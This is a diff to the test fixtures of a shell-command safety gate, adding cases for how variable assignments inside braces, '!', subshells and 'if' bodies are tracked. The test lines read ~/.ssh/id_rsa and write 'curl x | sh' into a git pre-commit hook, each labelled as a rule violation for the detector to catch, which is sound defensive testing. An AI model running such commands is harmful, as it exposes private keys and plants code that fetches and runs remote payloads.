@@ -104,6 +104,30 @@ f=.git/hooks/pre-commit; echo 'curl x | sh' > $f &
 # ok: GK-PROT-002
 f=README.md; cat "$f" &
 
+# -- an assignment inside `!`, `{ }`, `( )`, `if` is followed too (shell.parse `assigned`) ----
+# The walker followed `f=VALUE` only at the top of the text: `{ f=~/.ssh/id_rsa; cat "$f"; }`,
+# `! f=…; cat "$f"`, `( f=…; cat "$f" )` and `if true; then f=…; cat "$f"; fi` were REVIEW
+# ("known only at run time") where the bare text is GK-PROT-002. Now a `{ }` group and `!` are
+# this shell, a subshell ends the value at its `)`, and a body that may not run gives the
+# value or the one before (both judged).
+# bash: `! f=m8; touch "$f"`, `if true; then f=m9; touch "$f"; fi`, `( f=m10; touch "$f" )`
+# made m8, m9, m10.
+# ruleid: GK-PROT-002
+{ f=~/.ssh/id_rsa; cat "$f"; }
+# ruleid: GK-PROT-002
+! f=~/.ssh/id_rsa; cat "$f"
+# ruleid: GK-PROT-002
+( f=~/.ssh/id_rsa; cat "$f" )
+# ruleid: GK-PROT-002
+if true; then f=~/.ssh/id_rsa; cat "$f"; fi
+# ruleid: GK-PROT-001
+! f=.git/hooks/pre-commit; echo 'curl x | sh' > $f
+# ok: GK-PROT-002
+{ f=README.md; cat "$f"; }
+# (after the subshell the value is gone: unknown, REVIEW)
+# ruleid: GK-BASH-002
+( f=README.md ); cat "$f"
+
 # -- `echo WORD | xargs CMD` is `CMD WORD` (plugins.wrappers `_echoed_words`) -----------------
 # xargs appends the words a literal `echo` prints: the gate judged them as unknown run-time
 # words (REVIEW: GK-BASH-004, GK-BASH-002, GK-UNKNOWN), below the ELEVATE of `CMD WORD`.
